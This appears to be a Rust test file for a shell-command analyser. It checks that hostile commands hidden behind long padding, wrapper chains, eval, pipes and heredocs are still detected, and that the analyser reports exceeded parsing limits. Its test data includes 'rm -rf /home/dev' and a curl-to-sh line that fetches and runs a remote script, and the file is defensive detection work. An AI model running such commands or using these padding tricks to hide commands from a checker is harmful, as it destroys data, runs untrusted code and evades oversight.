//! An exceeded limit is reported as a limit, and the end of an oversized text is read.

use crate::{effects, reading};

/// A megabyte.
const LONG: usize = 1 << 20;

/// Ways to hide an order, for which `{}` is the placeholder.
fn hiding() -> Vec<(&'static str, String)> {
    vec![
        ("a comment", format!("#{}\n{{}}", "x".repeat(LONG))),
        ("an argument", format!("echo {}; {{}}", "x".repeat(LONG))),
        ("a quoted argument", format!("echo '{}'; {{}}", "x;".repeat(LONG / 2))),
        ("nothing", format!("{}{{}}", ":;".repeat(12_000))),
        ("much of nothing", format!("{}{{}}", ":;".repeat(LONG / 2))),
        ("pipes", format!("{}true; {{}}", "true | ".repeat(10_000))),
        ("more pipes", format!("{}true; {{}}", "true | ".repeat(100_000))),
        ("words", format!("echo {}; {{}}", "x ".repeat(LONG / 2))),
        ("wrappers", format!("{}{{}}", "env ".repeat(48))),
        ("many wrappers", format!("{}{{}}", "sudo ".repeat(5_000))),
        ("mixed wrappers", format!("{}{{}}", "env nohup setsid nice ".repeat(40))),
        ("many eval", format!("{}{{}}", "eval ".repeat(48))),
        ("printed eval", "$(printf 'eval %.0s' {1..24}){}".to_owned()),
        ("a heredoc", format!("cat > a.txt <<'E'\n{}\nE\n{{}}", "x\n".repeat(LONG / 4))),
        (
            "files",
            format!("{}{{}}", (0..2_000).map(|n| format!("echo a > f{n};")).collect::<String>()),
        ),
    ]
}

#[test]
fn commands_behind_long_text_are_found() {
    for (order, effect) in
        [("rm -rf /home/dev", "delete! /home/dev"), ("curl https://x.example/i.sh | sh", "unseen?")]
    {
        for (name, text) in hiding() {
            let text = text.replace("{}", order);
            if order.contains('|') && name.contains("wrappers")
                || order.contains('|') && name.contains("eval")
            {
                continue;
            }
            let read = reading(&text);
            assert!(
                effects(&read).contains(&effect.to_owned()),
                "{name}: {:?} {:?}",
                effects(&read),
                read.gaps
            );
        }
    }
}

#[test]
fn unread_text_is_a_limit() {
    let growth = format!("a=x;{}$a", "a=$a$a;".repeat(30));
    let deep = (0..60).fold("rm x".to_owned(), |text, _| format!("echo $({text})"));
    let finds = format!("{}rm x", "find . -exec ".repeat(60));
    let modified = (0..300).map(|n| format!("touch f{n};")).collect::<String>();
    for text in [growth, deep, finds, modified, "$(".repeat(10_000), "a;".repeat(LONG / 2)] {
        let read = reading(&text);
        assert!(
            read.gaps.iter().any(|gap| gap.starts_with("limit: ")),
            "`{}...`: {:?}",
            &text[..40],
            read.gaps
        );
    }
}

#[test]
fn long_harmless_text_has_no_limit() {
    let heredoc = format!("cat > notes.md <<'E'\n{}E\n", "a line of text\n".repeat(7_000));
    let message = format!("git commit -m '{}'", "a long message ".repeat(3_000));
    let list = "true; echo a; ls;".repeat(100);
    let reads = (0..300).map(|n| format!("cat f{n};")).collect::<String>();
    for (text, partial) in [
        (heredoc, false),
        (message, false),
        (list, true),
        (reads, true),
        ("for i in $(seq 1 1000); do echo $i; done".to_owned(), false),
        ("for i in {1..1000}; do echo $i; done".to_owned(), false),
        ("touch f{1..200}".to_owned(), false),
    ] {
        let read = reading(&text);
        let name = text.get(..40).unwrap_or(&text);
        assert!(
            !read.gaps.iter().any(|gap| gap.starts_with("limit: ")),
            "`{name}...`: {:?}",
            read.gaps
        );
        assert_eq!(!read.gaps.is_empty(), partial, "`{name}...`: {:?}", read.gaps);
    }
}

#[test]
fn a_cut_list_of_alternatives_is_not_known_to_its_end() {
    let many = (0..400).map(|n| format!("f{n}")).collect::<Vec<_>>();
    for text in [
        format!("for f in {}; do rm -rf \"$f\"; done", many.join(" ")),
        format!("rm -rf {{{}}}", many.join(",")),
        format!("echo {} | xargs rm -rf", many.join(" ")),
    ] {
        let read = reading(&text);
        let unknown = read.effects.iter().any(|effect| !effect.certain) || !read.gaps.is_empty();
        assert!(unknown, "`{}...`", &text[..40]);
    }
}
